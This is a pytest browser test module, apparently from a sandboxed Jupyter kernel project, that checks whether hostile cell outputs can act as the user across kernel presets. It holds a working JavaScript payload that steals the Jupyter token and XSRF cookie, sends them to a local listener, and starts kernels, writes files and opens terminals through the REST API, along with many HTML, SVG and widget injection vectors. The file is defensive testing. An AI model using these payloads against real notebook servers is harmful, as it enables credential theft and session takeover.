"""The browser boundary: no cell output acts with the user's authority, in any preset.

Each vector is a cell a hostile notebook could hold. Its payload, wherever it gets to
run, tries to act as the user: read the token and the XSRF cookie (and send them to a
listener), start a kernel through the REST API (a session named after the vector),
write a file through the contents API, open a terminal, open a popup and (a vector of
its own) navigate the top window. The result is checked from outside the browser: the
host file, the server's session, kernel and terminal lists, the server log, and what
the listener on 127.0.0.1 received.

The vectors run in one JupyterLab 4 (and, for a few, Notebook 7) under four kernels:

- ``stock``: ipykernel (``python3``), the positive control. Every vector must fire
  there, or it proves nothing: a vector inert under stock is listed with the reason
  (``stock_inert``) and its stock test checks it is still inert, then skips;
- ``standard``: the sandbox kernel's default preset (``Output.active_content =
  isolate``): active content runs in a sandboxed frame (its "ran" beacon reaches the
  listener, with origin ``null``) but nothing it does has an effect;
- ``classroom``: ``sanitize``; nothing runs;
- ``locked``: an admin lock pins ``Output.active_content = drop`` while the kernel's
  own arguments ask for ``isolate``: the lock wins (no frame in the page, the notice
  says the output was dropped) and nothing runs.

Every outcome is written to ``attack-outcomes.md`` in the module's temporary
directory (the path is printed), the table of the closing report.
"""

from __future__ import annotations

import contextlib
import json
import re
import secrets
import shutil
import sys
import threading
import time
import urllib.parse
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from tests.integration.test_browser import (
    CELL_TIMEOUT_MS,
    KERNEL_TIMEOUT_MS,
    PAGE_TIMEOUT_MS,
    LabServer,
    expect,
    install_kernelspec,
    require_browser_stack,
    start_lab,
)
from tests.integration.test_browser_sanitize import (
    Kernel,
    KernelTraffic,
    api_request,
    create_notebook,
    expect_idle,
    handle_interruptions,
    lab_context,  # noqa: F401  (the module's browser context fixture)
    widgets_frontend_missing,
)

if TYPE_CHECKING:
    from playwright.sync_api import BrowserContext, Locator, Page

KERNELS = {
    "stock": Kernel("python3", "Python 3 (ipykernel)"),
    "standard": Kernel("sandbox-python-attack-standard", "Sandbox standard (attacks)"),
    "classroom": Kernel("sandbox-python-attack-classroom", "Sandbox classroom (attacks)"),
    "locked": Kernel("sandbox-python-attack-locked", "Sandbox locked drop (attacks)"),
}
LOCKED_BY = "attack-suite admin"
SETTLE_S = 2.0  # after the payload ran (or could have): time for its requests to land
RAN_WAIT_S = 5.0  # how long a payload gets to send its first beacon

# The payload. T: the vector's tag, L: the listener, B: the server's URL.
ATTACK_JS = """(function(){var T="%(tag)s",L="%(listener)s",B="%(base)s";
function beacon(k,v){try{fetch(L+"/"+k+"?tag="+T+"&v="+encodeURIComponent(v),{mode:"no-cors"})
.catch(function(){})}catch(e){}}
var tok="",x="";
function cfg(d){try{return JSON.parse(d.getElementById("jupyter-config-data").textContent)}
catch(e){return {}}}
tok=cfg(document).token||"";
try{tok=tok||cfg(parent.document).token||""}catch(e){}
try{x=(document.cookie.match(/_xsrf=([^;]*)/)||[])[1]||""}catch(e){}
try{x=x||(parent.document.cookie.match(/_xsrf=([^;]*)/)||[])[1]||""}catch(e){}
beacon("ran",String(self.origin));
if(tok)beacon("token",tok);if(x)beacon("xsrf",x);
var h={"Content-Type":"application/json"};if(x)h["X-XSRFToken"]=decodeURIComponent(x);
if(tok)h["Authorization"]="token "+tok;
function call(m,p,b){try{fetch(B+p,{method:m,headers:h,credentials:"include",
body:JSON.stringify(b)}).catch(function(){})}catch(e){}}
call("POST","/api/sessions",{path:"pwned-"+T+".ipynb",type:"notebook",name:"pwned-"+T,
kernel:{name:"python3"}});
call("PUT","/api/contents/pwned-"+T+".txt",{type:"file",format:"text",content:"pwned"});
call("POST","/api/terminals",{name:"pwned-"+T});
try{if(window.open(L+"/popup?tag="+T))beacon("popup-opened","1")}catch(e){}
%(extra)s})()"""
NAVIGATE_JS = 'try{top.location.href=L+"/navigated?tag="+T}catch(e){beacon("nav-refused",e)}'


@dataclass(frozen=True)
class Vector:
    name: str
    code: str  # a cell template: {js} is the payload, {js_attr} the payload for an attribute
    # Why this JupyterLab leaves the vector inert even under stock ipykernel.
    stock_inert: str = ""
    widget: bool = False
    anywidget: bool = False
    inspect: bool = False  # the payload reaches the page through the inspector (Shift+Tab)
    navigate: bool = False  # the payload also navigates the top window
    notebook7: bool = False  # also run in Notebook 7

    def __str__(self) -> str:
        return self.name


H = "from IPython.display import display, HTML, Javascript, Markdown, SVG\n"
VECTORS = [
    Vector("img-onerror", H + "display(HTML('<img src=x onerror=\"{js_attr}\">'))", notebook7=True),
    Vector("javascript", H + "display(Javascript({js!r}))", notebook7=True),
    Vector(
        "repr-html",
        "class Report:\n    def _repr_html_(self):\n"
        "        return '<b>report</b><script>' + {js!r} + '</script>'\nReport()",
    ),
    Vector(
        "update-display",
        H + "h = display(HTML('<b>first</b>'), display_id=True)\n"
        "h.update(HTML('<img src=x onerror=\"{js_attr}\">'))",
    ),
    Vector("markdown-html", H + "display(Markdown('<img src=x onerror=\"{js_attr}\">'))"),
    Vector(
        "iframe-same-origin",
        H + "import html\ndisplay(HTML('<iframe sandbox=\"allow-scripts allow-same-origin "
        'allow-popups allow-top-navigation allow-forms allow-modals" srcdoc="\' + '
        "html.escape('<script>' + {js!r} + '</script>') + '\"></iframe>'))",
    ),
    Vector(
        "svg-onload-html",
        H + "display(HTML('<svg onload=\"{js_attr}\"></svg>'))",
        stock_inert="an onload on SVG markup inserted with innerHTML never fires",
    ),
    Vector(
        "svg-onbegin-html",
        H + 'display(HTML(\'<svg><animate onbegin="{js_attr}" attributeName="x" '
        'dur="1s"/></svg>\'))',
    ),
    Vector(
        "svg-image",
        H + 'display(SVG(\'<svg xmlns="http://www.w3.org/2000/svg" onload="{js_attr}">'
        '<circle r="5"/></svg>\'))',
        stock_inert="JupyterLab renders image/svg+xml as an <img>, where SVG script never runs",
    ),
    Vector(
        "pager",
        "from IPython.core.page import page\n"
        "page({{'text/plain': 'help', 'text/html': '<img src=x onerror=\"{js_attr}\">'}})",
    ),
    Vector(
        "inspect-html",
        "ip = get_ipython()\nip.object_inspect_mime = lambda *a, **k: "
        "{{'text/plain': 'doc', 'text/html': '<img src=x onerror=\"{js_attr}\">'}}",
        inspect=True,
        stock_inert="JupyterLab's tooltip and contextual help render the inspect_reply "
        "bundle as untrusted (sanitized); the gate makes it text anyway",
    ),
    Vector(
        "user-expressions",
        H + "hostile = HTML('<img src=x onerror=\"{js_attr}\">')\n"
        "get_ipython().user_ns['_ue'] = hostile",
        stock_inert="JupyterLab and Notebook 7 never send or render user_expressions "
        "(tests/integration/test_output_gate.py checks the gate on them)",
    ),
    Vector(
        "widget-html",
        "import ipywidgets as w\nw.HTML('<img src=x onerror=\"{js_attr}\">')",
        widget=True,
        notebook7=True,
    ),
    Vector(
        "output-widget",
        "import ipywidgets as w\nout = w.Output()\nout.outputs = ({{'output_type': "
        "'display_data', 'metadata': {{}}, 'data': {{'text/plain': 'x', "
        "'text/html': '<img src=x onerror=\"{js_attr}\">'}}}},)\nout",
        widget=True,
    ),
    Vector(
        "widget-description",
        "import ipywidgets as w\nw.IntSlider(description='<img src=x onerror=\"{js_attr}\">', "
        "description_allow_html=True)",
        widget=True,
        stock_inert="ipywidgets 8 passes HTML descriptions through JupyterLab's sanitizer "
        "(inline_sanitize); the gate cleans them anyway",
    ),
    Vector(
        "custom-widget",
        "import anywidget, traitlets\nclass Hostile(anywidget.AnyWidget):\n"
        "    _esm = 'export default {{ render() {{ ' + {js!r} + ' }} }}'\nHostile()",
        widget=True,
        anywidget=True,
    ),
    Vector(
        "navigate-top",
        H + "display(HTML('<img src=x onerror=\"{js_attr}\">'))",
        navigate=True,
    ),
]


# -- what reached the outside ------------------------------------------------------------


@dataclass
class Listener:
    """An HTTP listener on 127.0.0.1 that records every request (the attacker's server)."""

    url: str = ""
    hits: list[tuple[str, dict[str, str]]] = field(default_factory=list)

    def for_tag(self, tag: str) -> list[tuple[str, dict[str, str]]]:
        return [(path, q) for path, q in self.hits if q.get("tag") == tag]


@contextlib.contextmanager
def run_listener() -> Iterator[Listener]:
    listener = Listener()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            parsed = urllib.parse.urlsplit(self.path)
            query = dict(urllib.parse.parse_qsl(parsed.query))
            listener.hits.append((parsed.path, query))
            body = b"<html><body>listener</body></html>"
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    listener.url = f"http://127.0.0.1:{server.server_address[1]}"
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield listener
    finally:
        server.shutdown()
        server.server_close()


def effects(
    server: LabServer, listener: Listener, tag: str, log_before: int, kernels_before: int
) -> list[str]:
    """Everything the payload achieved as the user, seen from outside the browser."""
    found = []
    kernels = len(api_request(server, "GET", "/api/kernels"))
    if kernels > kernels_before:
        found.append(f"the server's kernel list grew ({kernels_before} -> {kernels})")
    if (server.root_dir / f"pwned-{tag}.txt").exists():
        found.append("wrote a file through the contents API")
    sessions = api_request(server, "GET", "/api/sessions")
    if any(tag in (s.get("path") or "") for s in sessions):
        found.append("started a kernel through the REST API")
    terminals = [t.get("name", "") for t in api_request(server, "GET", "/api/terminals")]
    if any(tag in name for name in terminals):
        found.append("opened a terminal")
    for path, query in listener.for_tag(tag):
        if path in {"/token", "/xsrf"} and query.get("v"):
            found.append(f"read the {path[1:]} ({query['v'][:6]}...)")
        elif path == "/popup":
            found.append("opened a popup")
        elif path == "/navigated":
            found.append("navigated the top window")
    # The server logs successful kernel and terminal starts (refused requests are
    # logged as warnings, which are no effect).
    log = server.log_path.read_text(errors="replace")[log_before:]
    if "Kernel started" in log or "New terminal" in log:
        found.append("the server log shows a kernel or terminal started")
    return found


def clean_up_effects(server: LabServer, notebook: str) -> None:
    import urllib.error

    for session in api_request(server, "GET", "/api/sessions"):
        if session.get("path") != notebook:
            with contextlib.suppress(urllib.error.HTTPError):
                api_request(server, "DELETE", f"/api/sessions/{session['id']}")
    for terminal in api_request(server, "GET", "/api/terminals"):
        with contextlib.suppress(urllib.error.HTTPError):
            api_request(server, "DELETE", f"/api/terminals/{terminal['name']}")
    for path in server.root_dir.glob("pwned-*"):
        path.unlink()


# -- the server -----------------------------------------------------------------------


def write_kernelspec(
    data_dir: Path, kernel: Kernel, args: list[str], env: dict[str, str] | None = None
) -> None:
    from sandbox_kernel.install import kernel_dict, template_dir

    spec = kernel_dict(display_name=kernel.display_name, python=sys.executable)
    spec["argv"] = [*spec["argv"], *args]
    if env:
        spec["env"] = env
    spec_dir = data_dir / "kernels" / kernel.name
    spec_dir.mkdir(parents=True)
    (spec_dir / "kernel.json").write_text(json.dumps(spec))
    for logo in template_dir().glob("logo-*"):
        shutil.copy(logo, spec_dir)


@pytest.fixture(scope="module")
def attack_base(tmp_path_factory: pytest.TempPathFactory) -> Path:
    base = tmp_path_factory.mktemp("attack-lab")
    base.chmod(0o755)
    return base


@pytest.fixture(scope="module")
def attack_server(attack_base: Path) -> Iterator[LabServer]:
    require_browser_stack()
    specs = attack_base / "kernelspecs"
    lock = attack_base / "locks.json"
    lock.write_text(
        json.dumps({"locked_by": LOCKED_BY, "locked": {"Output.active_content": "drop"}})
    )
    lock.chmod(0o644)
    write_kernelspec(specs, KERNELS["standard"], [])
    write_kernelspec(specs, KERNELS["classroom"], ["--SandboxKernelApp.preset=classroom"])
    write_kernelspec(
        specs,
        KERNELS["locked"],
        ["--Output.active_content=isolate"],  # the lock must win over this
        env={"SANDBOX_KERNEL_LOCKS": str(lock)},
    )
    jupyter_path = [str(specs), str(install_kernelspec(attack_base / "prefix"))]
    with start_lab(attack_base, jupyter_path) as server:
        yield server


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    with run_listener() as running:
        yield running


@pytest.fixture(scope="module")
def outcomes(attack_base: Path) -> Iterator[dict[tuple[str, str], str]]:
    table: dict[tuple[str, str], str] = {}
    yield table
    columns = [*KERNELS, "notebook7-stock", "notebook7-standard"]
    lines = ["| vector | " + " | ".join(columns) + " |", "|---" * (len(columns) + 1) + "|"]
    for vector in VECTORS:
        cells = [table.get((vector.name, c), "") for c in columns]
        lines.append(f"| {vector.name} | " + " | ".join(cells) + " |")
    path = attack_base / "attack-outcomes.md"
    path.write_text("\n".join(lines) + "\n")
    print(f"\nattack outcomes: {path}\n" + "\n".join(lines))


# -- one notebook per kernel, every vector in turn ---------------------------------------


@dataclass
class Notebook:
    page: Page
    kernel: Kernel
    name: str
    traffic: KernelTraffic = field(default_factory=KernelTraffic)
    popups: list[Page] = field(default_factory=list)
    console: list[str] = field(default_factory=list)
    classic: bool = False  # Notebook 7

    @property
    def cell(self) -> Locator:
        return self.page.locator(".jp-Notebook-cell").first


def open_attack_notebook(
    server: LabServer, context: BrowserContext, kernel: Kernel, *, classic: bool = False
) -> Notebook:
    tag = f"{kernel.name}-{secrets.token_hex(3)}"
    name = f"{tag}.ipynb"
    create_notebook(server, name, kernel)
    page = context.new_page()
    notebook = Notebook(page, kernel, name, classic=classic)
    page.set_default_timeout(PAGE_TIMEOUT_MS)
    page.on("websocket", notebook.traffic.attach)
    page.on("console", lambda msg: notebook.console.append(f"{msg.type}: {msg.text}"))

    def remember_popup(popup: Page) -> None:
        notebook.popups.append(popup)

    page.on("popup", remember_popup)
    handle_interruptions(page, kernel)
    if classic:
        page.goto(f"{server.url}/notebooks/{name}?token={server.token}")
        expect(notebook.cell, "Notebook 7 shows the cell").to_be_visible(timeout=PAGE_TIMEOUT_MS)
        wait_connected(server, name)
        run_in_cell(notebook, "1")
    else:
        page.goto(f"{server.url}/lab/workspaces/{tag}/tree/{name}?token={server.token}")
        expect(notebook.cell, "the notebook is open").to_be_visible(timeout=PAGE_TIMEOUT_MS)
        expect_idle(page, kernel, KERNEL_TIMEOUT_MS)
    return notebook


def wait_connected(server: LabServer, name: str) -> None:
    """Until the server sees the page connected to the notebook's idle kernel."""
    deadline = time.monotonic() + KERNEL_TIMEOUT_MS / 1000
    while time.monotonic() < deadline:
        for session in api_request(server, "GET", "/api/sessions"):
            kernel = session.get("kernel") or {}
            if (
                session.get("path") == name
                and kernel.get("connections", 0) > 0
                and kernel.get("execution_state") == "idle"
            ):
                time.sleep(1.0)  # the page's own kernel status catches up
                return
        time.sleep(0.25)
    pytest.fail(f"no page connected to the kernel of {name}:\n{server.log_tail()}")


def run_in_cell(notebook: Notebook, code: str) -> Locator:
    """Replace the first cell's code with ``code``, run it, wait for the kernel."""
    page, cell = notebook.page, notebook.cell
    prompt = cell.locator(".jp-InputPrompt")
    before = prompt.inner_text()
    editor = cell.locator(".jp-InputArea-editor .cm-content")
    editor.click()
    page.keyboard.press("Control+a")
    page.keyboard.insert_text(code)
    page.keyboard.press("Control+Enter")
    expect(prompt, f"the cell ran: {code[:60]!r}").not_to_have_text(before, timeout=CELL_TIMEOUT_MS)
    expect(prompt).to_have_text(re.compile(r"\[\d+\]:"), timeout=CELL_TIMEOUT_MS)
    return cell.locator(".jp-OutputArea")


def inspect_in_cell(notebook: Notebook) -> None:
    """Ask for the tooltip on ``len`` (Shift+Tab), which renders the inspect_reply."""
    page, cell = notebook.page, notebook.cell
    editor = cell.locator(".jp-InputArea-editor .cm-content")
    editor.click()
    page.keyboard.press("Control+a")
    page.keyboard.insert_text("len")
    page.keyboard.press("End")
    page.keyboard.press("Shift+Tab")  # the tooltip
    page.wait_for_timeout(1500)
    page.keyboard.press("Escape")
    editor.click()
    page.keyboard.press("End")
    page.keyboard.press("Control+i")  # the contextual help panel


def payload_for(vector: Vector, tag: str, listener: Listener, server: LabServer) -> str:
    js = ATTACK_JS % {
        "tag": tag,
        "listener": listener.url,
        "base": server.url,
        "extra": NAVIGATE_JS if vector.navigate else "",
    }
    js = js.replace("\n", "")
    # In an HTML attribute inside a Python string: no double quotes, no backslashes.
    js_attr = js.replace('"', "&quot;")
    return vector.code.format(js=js, js_attr=js_attr)


def wait_for_run(listener: Listener, tag: str, timeout: float) -> bool:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if any(path == "/ran" for path, _ in listener.for_tag(tag)):
            return True
        time.sleep(0.1)
    return False


def attack(
    server: LabServer, notebook: Notebook, listener: Listener, vector: Vector
) -> tuple[list[str], bool, Locator | None]:
    """Run one vector; return its effects, whether its payload ran at all, its outputs."""
    tag = f"{vector.name}-{secrets.token_hex(3)}"
    log_before = len(server.log_path.read_text(errors="replace"))
    kernels_before = len(api_request(server, "GET", "/api/kernels"))
    code = payload_for(vector, tag, listener, server)
    output = None
    if vector.inspect:
        run_in_cell(notebook, code)
        inspect_in_cell(notebook)
    else:
        try:
            output = run_in_cell(notebook, code)
        except AssertionError:
            # A payload that navigates the top window can take the page away before
            # the prompt shows the execution count (under stock, on a loaded machine):
            # that is the effect itself, recorded below, not a failure to run.
            if not (vector.navigate and not notebook.page.url.startswith(server.url)):
                raise
    ran = wait_for_run(listener, tag, RAN_WAIT_S)
    time.sleep(SETTLE_S)
    found = effects(server, listener, tag, log_before, kernels_before)
    if vector.navigate and not notebook.page.url.startswith(server.url):
        found.append(f"navigated the top window to {notebook.page.url}")
    if vector.navigate and notebook.page.url.startswith(listener.url):
        notebook.page.go_back()
    return found, ran, output


def skip_reason(vector: Vector) -> str:
    if vector.widget and (missing := widgets_frontend_missing()):
        return f"ipywidgets cannot render in this JupyterLab: missing {missing}"
    if vector.anywidget:
        import importlib.util

        if importlib.util.find_spec("anywidget") is None:
            return f"anywidget is not installed in {sys.prefix} (pip install anywidget)"
    return ""


def run_vectors(
    server: LabServer,
    context: BrowserContext,
    listener: Listener,
    outcomes: dict[tuple[str, str], str],
    kernel_id: str,
    vectors: list[Vector],
    *,
    classic: bool = False,
    column: str = "",
) -> None:
    from playwright.sync_api import Error as PlaywrightError

    column = column or kernel_id
    kernel = KERNELS[kernel_id]
    notebook = open_attack_notebook(server, context, kernel, classic=classic)
    failures: list[str] = []
    try:
        for vector in vectors:
            if reason := skip_reason(vector):
                outcomes[(vector.name, column)] = f"skipped: {reason}"
                continue
            clean_up_effects(server, notebook.name)
            try:
                found, ran, output = attack(server, notebook, listener, vector)
            except (AssertionError, PlaywrightError) as exc:
                failures.append(f"{vector}: could not run: {exc}")
                outcomes[(vector.name, column)] = "error"
                continue
            verdict = judge(kernel_id, vector, found, ran, output, notebook)
            outcomes[(vector.name, column)] = verdict.outcome
            if verdict.failure:
                failures.append(f"{vector}: {verdict.failure}")
        clean_up_effects(server, notebook.name)
    finally:
        with contextlib.suppress(PlaywrightError):
            notebook.page.screenshot(path=str(server.root_dir.parent / f"{column}.png"))
        for opened in [*notebook.popups, notebook.page]:
            with contextlib.suppress(PlaywrightError):
                opened.close()
        with contextlib.suppress(OSError, ValueError):
            for session in api_request(server, "GET", "/api/sessions"):
                api_request(server, "DELETE", f"/api/sessions/{session['id']}")
    assert not failures, "\n".join(failures) + (
        f"\nserver log:\n{server.log_tail()}\nkernel traffic:\n{notebook.traffic.tail()}"
    )


@dataclass
class Verdict:
    outcome: str
    failure: str = ""


def judge(
    kernel_id: str,
    vector: Vector,
    found: list[str],
    ran: bool,
    output: Locator | None,
    notebook: Notebook,
) -> Verdict:
    if kernel_id == "stock":
        if found:
            return Verdict("fires: " + "; ".join(found))
        if vector.stock_inert:
            return Verdict(f"inert under stock ({vector.stock_inert})")
        return Verdict(
            "did not fire",
            f"stock: the positive control did not fire (ran={ran}): the check proves nothing",
        )
    if found:
        return Verdict("FIRED: " + "; ".join(found), f"{kernel_id}: the payload acted: {found}")
    if kernel_id == "standard":
        # Active content ran, but in a frame: its beacon came from an opaque origin.
        how = "ran in an isolated frame, no effect" if ran else "did not run, no effect"
        if output is not None and not vector.widget and ran:
            frames = output.locator("iframe.sandbox-kernel-frame")
            if frames.count() and frames.first.get_attribute("sandbox") != "allow-scripts":
                return Verdict(how, "the frame's sandbox is not exactly allow-scripts")
        return Verdict(how)
    if ran:
        return Verdict("ran", f"{kernel_id}: the payload ran although it should be inert")
    frames = output.locator("iframe.sandbox-kernel-frame") if output is not None else None
    if kernel_id == "locked" and frames is not None and not vector.widget and frames.count():
        return Verdict("isolated", "locked: a frame was rendered although drop is locked")
    return Verdict("no effect (sanitized or dropped)")


@pytest.mark.browser
@pytest.mark.timeout(900)
@pytest.mark.parametrize("kernel_id", list(KERNELS))
def test_outputs_cannot_act_as_the_user(
    attack_server: LabServer,
    lab_context: BrowserContext,  # noqa: F811
    listener: Listener,
    outcomes: dict[tuple[str, str], str],
    kernel_id: str,
) -> None:
    run_vectors(attack_server, lab_context, listener, outcomes, kernel_id, VECTORS)


@pytest.mark.browser
@pytest.mark.timeout(600)
@pytest.mark.parametrize("kernel_id", ["stock", "standard"])
def test_outputs_cannot_act_as_the_user_in_notebook7(
    attack_server: LabServer,
    lab_context: BrowserContext,  # noqa: F811
    listener: Listener,
    outcomes: dict[tuple[str, str], str],
    kernel_id: str,
) -> None:
    import importlib.util

    if importlib.util.find_spec("notebook") is None:
        pytest.skip(f"Notebook 7 is not installed in {sys.prefix} (pip install notebook)")
    vectors = [v for v in VECTORS if v.notebook7]
    run_vectors(
        attack_server,
        lab_context,
        listener,
        outcomes,
        kernel_id,
        vectors,
        classic=True,
        column=f"notebook7-{kernel_id}",
    )
